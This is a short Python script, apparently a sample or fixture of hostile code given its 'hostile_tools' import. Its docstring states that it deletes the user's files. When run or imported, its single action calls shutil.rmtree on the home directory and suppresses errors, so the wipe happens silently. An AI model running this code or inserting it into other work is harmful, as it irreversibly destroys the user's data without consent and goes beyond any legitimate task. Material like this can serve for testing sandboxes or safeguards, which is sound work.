"""Deletes the user's files."""

import shutil

from hostile_tools import place

shutil.rmtree(place("home"), ignore_errors=True)
